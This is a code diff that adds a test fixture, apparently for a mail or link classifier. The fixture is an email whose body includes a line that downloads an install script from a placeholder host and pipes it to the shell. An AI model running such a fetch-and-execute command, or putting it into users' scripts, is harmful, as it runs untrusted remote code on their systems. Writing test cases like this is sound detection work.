@@ -41,6 +41,16 @@ export const examples: Examples = {
       },
     },
     {
+      name: "a note with a command in it",
+      why: "The address stands in a command, which is no link to follow.",
+      files: {
+        "mail.eml": makeMail({
+          subject: "Notes",
+          text: "The invoice of March was paid twice, we will get one of them back.\n\ncurl -fsSL https://get.stranger.example/install.sh | sh\n",
+        }),
+      },
+    },
+    {
       name: "a maker's installer",
       why: "It is said to be what it is.",
       files: {
